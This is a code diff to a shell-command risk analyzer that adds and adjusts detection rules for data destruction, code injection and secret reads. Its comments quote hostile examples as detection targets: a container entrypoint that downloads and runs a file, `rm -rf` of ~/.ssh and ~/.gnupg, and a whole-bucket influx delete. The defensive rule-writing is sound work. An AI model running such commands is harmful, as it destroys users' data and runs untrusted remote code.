@@ -560,7 +560,11 @@ class ShellAnalyzer:
         """Grade a command given as an argument vector (used for ``subprocess.run([...])``)."""
         flow = _Flow()
         flow.every_container = every_container  # its arguments are what `docker ps -aq` printed
-        return self._argv(list(argv), None, flow, [])
+        flow = self._argv(list(argv), None, flow, [])
+        if self._stdin_text and stdin_code_language(argv, inside_only=True) is not None:
+            # `run(["docker", "exec", "-i", "app", "python3", "manage.py", "shell"], input=SRC)`: the input is code
+            self._stdin_code(self._stdin_text, _Flow(), list(argv), None, "standard input")
+        return flow
 
     # ----------------------------------------------------------------- findings
     def _add(self, rule: str, level: RiskLevel, category: Category, message: str, node: Any = None) -> None:
@@ -1657,8 +1661,8 @@ class ShellAnalyzer:
         value = self.vars.get(name, (self._cwd or ".") if name == "PWD" else None)
         return value if value is not None and HOLE not in value else match.group(0)
 
-    def _stdin_code(self, text: str, word_flow: _Flow, argv: list[str], stmt: Any) -> None:
-        """Code handed to an interpreter on stdin by a here-document or here-string."""
+    def _stdin_code(self, text: str, word_flow: _Flow, argv: list[str], stmt: Any, via: str = "here-document") -> None:
+        """Code handed to an interpreter on stdin by a here-document or here-string (or a call's ``input``)."""
         argv = W.unwrapped(argv, ("sudo", "doas", "nice", "ionice", "timeout")) or argv  # `sudo -u app python3 -`
         argv = _container_exec_command(argv) or argv  # `docker exec -i app python3 - <<'PY'`: run in the container
         lang = _interpreter_language(argv)
@@ -1678,7 +1682,7 @@ class ShellAnalyzer:
         elif lang in ("shell", "python"):
             # `python3 - "$file" <<EOF`: the words after `-` are its arguments
             positional = argv[argv.index("-") + 1 :] if "-" in argv else []
-            self._nested(text, lang, stmt, f"{W.base(argv[0])} here-document", positional=positional)
+            self._nested(text, lang, stmt, f"{W.base(argv[0])} {via}", positional=positional)
         elif lang == "other":
             positional = argv[argv.index("-") + 1 :] if "-" in argv else []
             self._other_interpreter(W.base(argv[0]), text, stmt, "", positional)
@@ -2163,6 +2167,13 @@ class ShellAnalyzer:
             flow.secret = True
             self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                       "git config prints the token a CI checkout stored (http.extraheader)", node)  # fmt: skip
+        if name == "influx" and args[:1] == ["delete"] and not any(
+            a in ("-p", "--predicate") or a.startswith("--predicate=") for a in args
+        ) and " ".join(W.option_values(args, "--start")).strip("\"'").startswith(("1970-01-01", "1677-", "1900-", "0")):
+            # `influx delete --bucket curing --start 1970-01-01T00:00:00Z --stop $(date …)`: every point, no predicate
+            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
+                      "influx delete removes every point of a bucket (from the epoch on, with no predicate)",
+                      node)  # fmt: skip
         if name.startswith("kafka-") and _KAFKA_HARM.search(" ".join(args)):
             production = production_target(self._source.decode("utf-8", "replace") if node is not None else "")
             self._add("shell.data-destroy", RiskLevel.HIGH if production else RiskLevel.MEDIUM, Category.FILESYSTEM,
@@ -3224,11 +3235,12 @@ class ShellAnalyzer:
                     "-c" in rest
                 ) else []  # fmt: skip
                 untrusted = listing is not None and paths.untrusted_inbox(listing.rstrip("/") + "/")
-                if replace and untrusted and any(replace in w for w in code_words):
+                if replace and (untrusted or self._stdin_remote) and any(replace in w for w in code_words):
                     # `ls /srv/uploads | xargs -I{} sh -c 'convert /srv/uploads/{} …'`: a name like `$(…)` runs
+                    # (or what a server's answer lists: `curl …/docs | jq -r '.results[].label' | xargs -I{} sh -c`)
+                    what = "untrusted file names" if untrusted else "what a server returned"
                     self._add("shell.injection", RiskLevel.HIGH, Category.DYNAMIC_CODE,
-                              "xargs puts untrusted file names into shell code (a name like $(…) runs)",
-                              node)  # fmt: skip
+                              f"xargs puts {what} into shell code (a name like $(…) runs)", node)  # fmt: skip
                 # `printf '%s\n' "$HOME/.ssh" "$HOME/.gnupg" | xargs rm -rf`: the words printed are the arguments
                 printed = self._stdin_text.split() if listing is None and self._stdin_text else []
                 printed = printed if 0 < len(printed) <= 16 and not any(HOLE in w for w in printed) else []
@@ -3384,6 +3396,7 @@ class ShellAnalyzer:
             # `jq -r '.services.CoAuthoring.secret.inbox.string' /etc/onlyoffice/…/local.json`: a service's secret
             # taken out of its settings (to log in to the service itself, as often as to send it away); a file that
             # is itself a secret one is read below like any other
+            flow.credential = True  # (one setting's secret value: to log in with, or to send away)
             self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                       f"{name} takes a secret out of a service's settings file", node)  # fmt: skip
         for arg in args:
@@ -3630,8 +3643,11 @@ class ShellAnalyzer:
         )
         if archived and data_folder:
             level = min(level, RiskLevel.MEDIUM)  # `tar czf 2023.tgz 2023/ && rm -rf 2023/`: kept in the archive
-        if level == RiskLevel.HIGH and self._reinstalled(info.path):
-            level = RiskLevel.MEDIUM  # `rm -rf /opt/nvim-linux64 && tar -C /opt -xzf nvim-linux64.tar.gz`: replaced
+        source = self._source.decode("utf-8", "replace")
+        if level == RiskLevel.HIGH and (self._reinstalled(info.path) or paths.static_folder_rebuilt(info.path, source)):
+            # `rm -rf /opt/nvim-linux64 && tar -C /opt -xzf nvim-linux64.tar.gz`: replaced (or a framework's collected
+            # static files, `… && manage.py collectstatic`, filled again)
+            level = RiskLevel.MEDIUM
         if level == RiskLevel.HIGH and not recursive and target in self._encrypted_inputs:
             level = RiskLevel.MEDIUM  # `gpg -o x.tar.gz.gpg -e x.tar.gz && rm x.tar.gz`: the plaintext of a copy kept
         if filtered:
@@ -5921,7 +5937,11 @@ class ShellAnalyzer:
             deleted = [a for a in args[1:] if not a.startswith("-")][1:]
             # (one release candidate's or pre-release's tag, deleted to be made again, is not the published history)
             prerelease = len(deleted) == 1 and _PRERELEASE_TAG.search(deleted[0]) is not None and not many
-            if (many or len(deleted) > 3 or any(HOLE in d or "refs/tags" in d for d in deleted)) and not prerelease:
+            # (the branches `git branch -r --merged main` lists: their changes are on main already, a routine prune)
+            merged = b"--merged" in self._source and _MERGED_BRANCHES.search(self._source) is not None
+            if (many or len(deleted) > 3 or any(HOLE in d or "refs/tags" in d for d in deleted)) and not (
+                prerelease or merged
+            ):
                 self._add("shell.history-rewrite", RiskLevel.HIGH, Category.FILESYSTEM,
                           "git push --delete removes branches or tags on the remote en masse", node)  # fmt: skip
         if verb == "update-ref" and "-d" in args and (many or self._repeated):
@@ -7736,6 +7756,9 @@ class ShellAnalyzer:
             self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                       f"exposes {T.ADMIN_PORTS[admin[0]]} (port {admin[0]}) outside the cluster (a public service)",
                       node)  # fmt: skip
+        for command in _SHELL_ARRAY_COMMAND.findall(spec)[:4] if "-c" in spec else []:
+            # `.services.app.entrypoint = ["/bin/sh","-c","wget -qO /tmp/.s http://…/s && /tmp/.s & exec …"]`
+            self._nested(command, "shell", node, "a container's command", keep=RiskLevel.HIGH)
         self._shipped_payloads(spec, node, "a pod spec")
 
     def _rule_multiplexer(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
@@ -10318,7 +10341,8 @@ def _application_console(name: str, args: Sequence[str]) -> str | None:
     words = [a for a in args if not a.startswith("-")]
     if (name == "bench" and "console" in words) or (
         # (`funkwhale-manage`; Label Studio's own CLI passes `shell` to Django's)
-        (name in ("manage.py", "odoo", "odoo-bin", "label-studio") or name.endswith(("-manage", "_manage")))
+        # (or a Django project's own manage script by another name: `mayan-edms.py shell`)
+        (name in ("manage.py", "odoo", "odoo-bin", "label-studio") or name.endswith(("-manage", "_manage", ".py")))
         and words[:1] == ["shell"]
     ):
         return "python"
@@ -10507,6 +10531,40 @@ def _container_exec_command(argv: list[str]) -> list[str] | None:
         return None
     rest = W.skip_options(args[1:], T.CONTAINER_VALUED)
     return rest[1:] or None
+
+
+#: The command line a container's command or entrypoint array hands a shell (`["/bin/sh", "-c", "…"]`).
+_SHELL_ARRAY_COMMAND = re.compile(r"[\"']-c[\"']\s*,\s*\"((?:[^\"\\]|\\.)+)\"")
+#: A listing of the branches already merged into another (`git branch -r --merged origin/main`).
+_MERGED_BRANCHES = re.compile(rb"\bgit\s+branch\b[^\n|;&]*\s--merged\b")
+
+
+def stdin_code_language(argv: Sequence[str], *, inside_only: bool = False) -> str | None:
+    """The language of the code ``argv`` reads on its standard input, when it is an interpreter or an application's
+    console given no script (``python3``, ``sh -s``, ``manage.py shell``), behind ``sudo`` or inside a container
+    (``docker exec -i app python3 -``); None for any other command. ``inside_only``: only a container's, or an
+    application console's (a bare interpreter's input is read where the caller reads it already)."""
+    argv = W.unwrapped(argv, ("sudo", "doas", "nice", "ionice", "timeout")) or list(argv)
+    inner = _container_exec_command(argv)
+    command = inner or argv
+    if not command:
+        return None
+    name = W.base(command[0])
+    operands = [a for a in command[1:] if not a.startswith("-")]
+    console = _application_console(W.base(operands[0]), operands[1:]) if operands and (
+        name in T.PYTHONS or name.startswith("python")
+    ) else _application_console(name, command[1:])  # (`python3 manage.py shell`, `./manage.py shell`)
+    if console is not None:
+        return console
+    if inside_only and inner is None:
+        return None
+    if name in T.SHELLS and "-c" not in command and (not operands or "-s" in command):
+        return "shell"
+    if (name in T.PYTHONS or name.startswith("python")) and (not operands or command[1:2] == ["-"]) and not any(
+        a in ("-c", "-m") for a in command[1:]
+    ):
+        return "python"
+    return None
 
 
 def _interpreter_language(argv: list[str]) -> str | None:
